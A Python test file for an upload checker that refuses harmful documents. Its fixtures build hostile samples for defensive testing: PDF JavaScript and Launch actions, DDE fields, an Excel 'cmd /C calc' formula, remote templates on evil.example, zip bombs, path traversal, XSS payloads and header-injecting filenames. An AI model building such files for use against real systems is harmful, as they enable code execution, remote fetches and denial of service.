"""What may come in, judged by what it is; every refusal says what is wrong and what to do."""

from __future__ import annotations

import io
import re
import resource
import struct
import time
import zipfile
import zlib

import pikepdf
import pytest

from safeguarding.documents.upload import Sound, check_upload, clean_name
from safeguarding.statute.answer import Refused
from tests.documents import makers

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EMAIL = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: hello\r\n\r\nBody\r\n"

GOOD = {
    "return.docx": makers.word(),
    "chronology.xlsx": makers.workbook(),
    "report.pdf": makers.pdf(),
    "report flat.pdf": makers.pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable),
    "dates.csv": "Date,What\n1 February 2026,“Seen”\n".encode(),
    "excel.csv": "Date;Caf\xe9\n".encode("cp1252"),
    "windows.txt": "\ufeffnotes".encode("utf-16"),
    "notes.txt": b"She likes drawing.\r\n",
    "drawing.png": makers.png(),
    "photo.JPEG": makers.jpg(),
    "mail.eml": EMAIL,
    "mail.msg": OLE + b"\0" * 504 + "__properties_version1.0".encode("utf-16-le") + b"\0" * 100,
}


@pytest.mark.parametrize("name", GOOD)
def test_ordinary_files_come_in(name: str) -> None:
    answer = check_upload(name, GOOD[name])
    assert isinstance(answer, Sound), answer
    assert answer.name == name


def test_saved_e_mails_are_only_ever_downloaded() -> None:
    for name in ("mail.eml", "mail.msg"):
        answer = check_upload(name, GOOD[name])
        assert isinstance(answer, Sound)
        assert answer.content_type == "application/octet-stream"


def test_a_word_document_with_an_ordinary_link_comes_in() -> None:
    for target in ("https://www.gov.uk/", "mailto:help@example.org"):
        assert isinstance(check_upload("a.docx", makers.relation("hyperlink", target)), Sound)


def test_a_link_whose_address_has_the_word_link_in_it_comes_in() -> None:
    field = FIELD.format('<w:r><w:instrText>HYPERLINK "https://www.gov.uk/link/import"</w:instrText></w:r>')
    assert isinstance(check_upload("a.docx", makers.word_with(body=field)), Sound)


def test_our_own_papers_come_in_again() -> None:
    from safeguarding.documents.pdf import render_pdf
    from safeguarding.documents.word import render_docx
    from tests.documents.papers import paper

    assert isinstance(check_upload("a.docx", render_docx("rr_report", paper())), Sound)
    assert isinstance(check_upload("a.pdf", render_pdf("rr_report", paper())), Sound)


def _script(paper: pikepdf.Pdf) -> None:
    paper.Root.OpenAction = paper.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )


def _launch(paper: pikepdf.Pdf) -> None:
    paper.Root.OpenAction = paper.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"))


def _embed(paper: pikepdf.Pdf) -> None:
    paper.attachments["evil.exe"] = b"MZ"


def _form(paper: pikepdf.Pdf) -> None:
    paper.Root.AcroForm = paper.make_indirect(pikepdf.Dictionary(XFA=pikepdf.Array([])))


def disguised_script() -> bytes:
    flat = makers.pdf(_script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return flat.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53")


def hidden_in_a_list(filters: bytes = b"/FlateDecode", objects: bytes = b"") -> bytes:
    body = zlib.compress(objects or b"7 0 <</S/JavaScript/JS(app.alert(1))>>")
    head = b"%PDF-1.7\n9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter " + filters
    return head + b"/Length %d>>\nstream\n" % len(body) + body + b"\nendstream\nendobj\ntrailer<<>>\n%%EOF\n"


def macros() -> bytes:
    types = makers.parts_of(makers.word())["[Content_Types].xml"].decode()  # type: ignore[union-attr]
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return makers.word_with({"[Content_Types].xml": types, "word/vbaProject.bin": OLE})


FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
SPLIT_DDE = FIELD.format(
    "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\x</w:instrText></w:r>"
)
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "b">]>'
DOCUMENT = makers.parts_of(makers.word())["word/document.xml"].decode()  # type: ignore[union-attr]

HARMFUL = {
    "macros under another name.docx": macros(),
    "macro part.docx": makers.word_with({"word/vbaProject.bin": b"x"}),
    "embedded.docx": makers.word_with({"word/embeddings/oleObject1.bin": OLE}),
    "control.docx": makers.word_with({"word/activeX/activeX1.xml": "<a/>"}),
    "altchunk part.docx": makers.word_with({"word/afchunk.mht": b"MIME-Version: 1.0"}),
    "altchunk.docx": makers.word_with(body='<w:altChunk r:id="rIdX"/>'),
    "object.docx": makers.word_with(body="<w:p><w:r><w:object/></w:r></w:p>"),
    "template.docx": makers.relation(
        "attachedTemplate", "http://evil.example/t.dotm", where="word/_rels/settings.xml.rels"
    ),
    "picture from outside.docx": makers.relation("image", "http://evil.example/a.png"),
    "picture from a share.docx": makers.relation("image", "\\\\evil\\a.png", mode=""),
    "frame.docx": makers.relation("frame", "http://evil.example/"),
    "link to a program.docx": makers.relation("hyperlink", "file:///c:/windows/system32/calc.exe"),
    "link to a script.docx": makers.relation("hyperlink", "javascript:alert(1)"),
    "dde.docx": makers.word_with(body=SPLIT_DDE),
    "dde simple.docx": makers.word_with(body='<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>'),
    "include.docx": makers.word_with(
        body=FIELD.format('<w:r><w:instrText>INCLUDEPICTURE "http://e"</w:instrText></w:r>')
    ),
    "dde spelled.docx": makers.word_with(
        body=FIELD.format("<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>")
    ),
    "entities.docx": makers.word_with(
        document=DOCUMENT.replace("<?xml version='1.0' encoding='UTF-8' standalone='yes'?>", DOCTYPE)
    ),
    "nested.docx": makers.word_with(body="<w:p>" * 5000 + "</w:p>" * 5000),
    "damaged xml.docx": makers.word_with({"word/document.xml": DOCUMENT[:-20]}),
    "doc in doc.docx": makers.word_with({"word/inner.docx": makers.word()}),
    "escape.docx": makers.word_with({"../../etc/cron.d/x": b"x"}),
    "far cell.xlsx": makers.workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "far merge.xlsx": makers.workbook(
        '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>'
    ),
    "webservice.xlsx": makers.workbook('<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("http://e/")</f></c></row>'),
    "command.xlsx": makers.workbook('<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row>'),
    "outside links.xlsx": makers.workbook(**{"xl/externalLinks/externalLink1.xml": "<a/>"}),
    "connections.xlsx": makers.workbook(**{"xl/connections.xml": "<a/>"}),
    "old macros.xlsx": makers.workbook(**{"xl/macrosheets/sheet1.xml": "<a/>"}),
    "script.pdf": makers.pdf(_script),
    "script in the open.pdf": makers.pdf(_script, object_stream_mode=pikepdf.ObjectStreamMode.disable),
    "script in disguise.pdf": disguised_script(),
    "script in a list.pdf": hidden_in_a_list(),
    "script in an odd list.pdf": hidden_in_a_list(b"[/ASCIIHexDecode/FlateDecode]"),
    "list that is no list.pdf": hidden_in_a_list().replace(b"/ObjStm", b"/Foo"),
    "launch.pdf": makers.pdf(_launch),
    "embedded.pdf": makers.pdf(_embed),
    "form.pdf": makers.pdf(_form),
    "password.pdf": makers.pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "cut.pdf": makers.pdf()[:-40],
    "zip behind.pdf": makers.pdf() + makers.zipped({"a.class": b"x"}),
    "zip behind.png": makers.png() + makers.zipped({"a.class": b"x"}),
    "zip behind.jpg": makers.jpg() + makers.zipped({"a.class": b"x"}),
    "page behind.jpg": makers.jpg() + b"<script>alert(1)</script>",
    "half.png": makers.png()[:-12],
    "enormous.png": makers.png(200_000, 200_000),
    "page.txt": b"\xef\xbb\xbf  <!DOCTYPE html><script>alert(1)</script>",
    "picture.csv": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "archive.txt": b"From: x\r\nContent-Type: multipart/related\r\n\r\n<html>",
    "program.eml": EMAIL + b'Content-Disposition: attachment; filename="invoice.pdf.exe"\r\n',
}


@pytest.mark.parametrize("name", HARMFUL)
def test_whatever_could_act_fetch_or_hide_is_refused_with_a_way_out(name: str) -> None:
    answer = check_upload(name, HARMFUL[name])
    assert isinstance(answer, Refused), answer
    assert name in answer.sentence
    assert answer.mend.endswith((".", "?"))
    assert answer.code.startswith("file_")


NOT_WHAT_IT_SAYS = {
    "program.pdf": b"MZ\x90\x00" + b"\0" * 100,
    "word.pdf": makers.word(),
    "pdf.docx": makers.pdf(),
    "book.docx": makers.workbook(),
    "picture.jpg": makers.png(),
    "old.docx": OLE + "WordDocument".encode("utf-16-le"),
    "text.eml": b"Just words\n",
    "rich.txt": b"{\\rtf1 hello}",
    "zip.docx": makers.zipped({"a": b"b"}),
    "page.pdf": b"<html><body>%PDF-1.4</body></html>",
}


@pytest.mark.parametrize("name", NOT_WHAT_IT_SAYS)
def test_a_file_that_is_not_what_its_name_says_is_refused(name: str) -> None:
    answer = check_upload(name, NOT_WHAT_IT_SAYS[name])
    assert isinstance(answer, Refused)
    assert answer.code == "file_not_what_it_says"


@pytest.mark.parametrize(
    "name", ["a.doc", "a.docm", "a.xlsm", "a.zip", "a.html", "a.svg", "a.exe", "a", "a.heic"]
)
def test_other_kinds_are_refused_and_the_page_says_what_to_save_instead(name: str) -> None:
    answer = check_upload(name, b"anything")
    assert isinstance(answer, Refused)
    assert answer.code == "file_kind"
    assert answer.mend


def test_empty_and_oversized_files_are_refused() -> None:
    for data, code in ((b"", "file_empty"), (b"a" * 25_000_001, "file_too_large")):
        answer = check_upload("a.txt", data)
        assert isinstance(answer, Refused)
        assert answer.code == code


# Containers made to exhaust the machine (attack A16)


def bomb() -> bytes:
    return makers.word_with({"word/media/a.bin": b"\0" * 60_000_000, "word/media/b.bin": b"\0" * 60_000_000})


def many() -> bytes:
    return makers.word_with({f"word/media/{n}.bin": b"" for n in range(4000)})


def overlapping() -> bytes:
    """Many names in the list of contents for one and the same packed part."""
    data = makers.word_with({"word/media/a.bin": b"\0" * 900_000})
    end = data.rfind(b"PK\x05\x06")
    count, size, start, comment = struct.unpack("<HIIH", data[end + 10 : end + 22])
    listed = data[start:end]
    place = listed.rfind(b"PK\x01\x02")
    last = listed[place:]
    copies = b"".join(last.replace(b"a.bin", b"%c.bin" % (98 + n)) for n in range(20))
    tail = struct.pack("<HHIIH", count + 20, count + 20, size + len(copies), start, comment)
    return data[:start] + listed + copies + data[end : end + 8] + tail


def lying_size() -> bytes:
    data = makers.word_with({"word/media/a.bin": b"\0" * 900_000})
    return data.replace(struct.pack("<I", 900_000), struct.pack("<I", 10))


def password() -> bytes:
    data = bytearray(makers.word())
    for match in re.finditer(b"PK\x01\x02", bytes(data)):
        data[match.start() + 8] |= 1
    return bytes(data)


def twice() -> bytes:
    out = io.BytesIO(makers.word())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(out, "a") as packed:
        packed.writestr("word/document.xml", "<a/>")
    return out.getvalue()


@pytest.mark.parametrize("make", [bomb, many, overlapping, lying_size, password, twice])
def test_a_container_made_to_harm_is_refused_at_once_and_unpacked_never(make: object) -> None:
    data = make()  # type: ignore[operator]
    memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    answer = check_upload("a.docx", data)
    took = time.perf_counter() - started
    assert isinstance(answer, Refused), answer
    assert took < 1
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - memory < 200_000


def test_a_pdf_made_of_nothing_is_refused_before_it_is_unpacked() -> None:
    answer = check_upload("a.pdf", hidden_in_a_list(objects=b"7 0 <<>>" + b" " * 100_000_000))
    assert isinstance(answer, Refused)


@pytest.mark.parametrize("ending", ["pdf", "docx", "xlsx", "png", "jpg", "csv", "txt", "eml", "msg"])
def test_damaged_files_get_an_answer_and_never_an_error(ending: str) -> None:
    import random

    chance = random.Random(ending)  # noqa: S311 - repeatable damage
    good = next(
        data for name, data in GOOD.items() if name.lower().endswith((ending, ending.replace("jpg", "jpeg")))
    )
    for _ in range(150):
        data = bytearray(good)
        for _ in range(chance.randrange(1, 8)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        cut = chance.randrange(len(data)) if chance.random() < 0.3 else len(data)
        assert isinstance(check_upload(f"a.{ending}", bytes(data[:cut])), Sound | Refused)


@pytest.mark.parametrize(
    ("given", "made"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\x\\notes.txt", "notes.txt"),
        ('a"\r\nSet-Cookie: x.txt', "aSet-Cookie x.txt"),
        ("evil\u202etxt.exe", "eviltxt.exe"),
        ("<script>.pdf", "script.pdf"),
        ("...", "file"),
        ("", "file"),
    ],
)
def test_a_name_is_made_safe(given: str, made: str) -> None:
    assert clean_name(given) == made


def test_a_very_long_name_keeps_its_ending() -> None:
    assert clean_name("a" * 400 + ".pdf").endswith(".pdf")
    assert len(clean_name("a" * 400 + ".pdf")) <= 150


@pytest.mark.parametrize(
    "text", ["<" * 1_000_000, "%\r" * 500_000, "1 " * 500_000, "A1:" * 300_000, "\n" * 1_000_000]
)
def test_no_text_makes_a_pattern_run_away(text: str) -> None:
    started = time.perf_counter()
    check_upload("a.csv", text.encode())
    check_upload("a.pdf", b"%PDF-1.7\n" + text.encode() + b"\n%%EOF")
    check_upload("a.eml", EMAIL + text.encode())
    assert time.perf_counter() - started < 2


@pytest.mark.parametrize("target", ["file:///C:\\Users\\ann\\Trust.dotx", "C:\\Templates\\Trust.dotx"])
def test_a_template_on_ones_own_drive_is_harmless(target: str) -> None:
    data = makers.relation("attachedTemplate", target, where="word/_rels/settings.xml.rels")
    assert isinstance(check_upload("paper.docx", data), Sound)


@pytest.mark.parametrize(
    "target", ["file://server/share/x.dotm", "\\\\server\\x.dotm", "https://x.example/t.dotm"]
)
def test_a_template_elsewhere_is_refused(target: str) -> None:
    data = makers.relation("attachedTemplate", target, where="word/_rels/settings.xml.rels")
    assert isinstance(check_upload("paper.docx", data), Refused)
